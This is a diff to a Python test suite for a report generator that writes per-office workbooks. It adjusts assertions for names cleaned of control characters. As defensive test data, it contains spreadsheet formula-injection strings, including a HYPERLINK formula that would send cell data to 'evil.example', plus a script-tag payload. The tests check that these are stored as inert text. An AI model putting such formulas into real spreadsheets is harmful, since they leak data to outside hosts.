@@ -39,6 +39,15 @@ def opd_payloads(secret_uri: str) -> list[str]:
     ]
 
 
+#: How validation reads a name with control characters: removed (vertical tab as a
+#: space) and reported as a warning; the employees of that OPD are kept.
+AS_LOADED = {"+1+1 Dinas\x0bVT": "+1+1 Dinas VT", "@SUM(1)\x00Badan": "@SUM(1)Badan"}
+
+
+def loaded(names: list[str]) -> list[str]:
+    return sorted(AS_LOADED.get(n, n) for n in names)
+
+
 TRAINING_PREFIXES = ("=1+1 ", "\tTab ", "\rCR ", "-2+3 ", "<script>alert(3)</script>", "@x ")
 
 
@@ -104,7 +113,7 @@ def test_every_opd_gets_one_complete_report(batch, city):
     tidy = s.tidy()
     assert (tidy["status"] == "ok").all(), tidy[["kunci", "pesan"]]
     per_opd = tidy[tidy["opd"].notna()]
-    assert sorted(per_opd["opd"]) == sorted(payloads)  # one run per OPD, the name as written
+    assert sorted(per_opd["opd"]) == loaded(payloads)  # one run per OPD, the name as loaded
     folders = sorted((out / last / "opd").iterdir())
     assert len(folders) == len(payloads)  # colliding spellings and "-" get their own folder
     for f in folders:
@@ -177,7 +186,7 @@ def test_no_formula_cell_in_any_workbook(batch, city):
                     if isinstance(c.value, str):
                         texts.add(c.value)
     assert '=HYPERLINK("http://evil.example/?x="&A1,"Klik")' in texts
-    assert "+1+1 Dinas\ufffdVT" in texts  # the control character is visible, not fatal
+    assert "+1+1 Dinas VT" in texts  # the control character was cleaned, not fatal
 
 
 def test_manifest_keeps_names_and_no_local_paths(batch, city):
@@ -194,7 +203,7 @@ def test_manifest_keeps_names_and_no_local_paths(batch, city):
         for r in json.loads(text)["runs"].values():
             if r.get("opd"):
                 names.append(r["opd"])
-    assert sorted(names) == sorted(payloads)
+    assert sorted(names) == loaded(payloads)
     index = (out / "index.html").read_text("utf-8")
     parser = _Active()
     parser.feed(index)
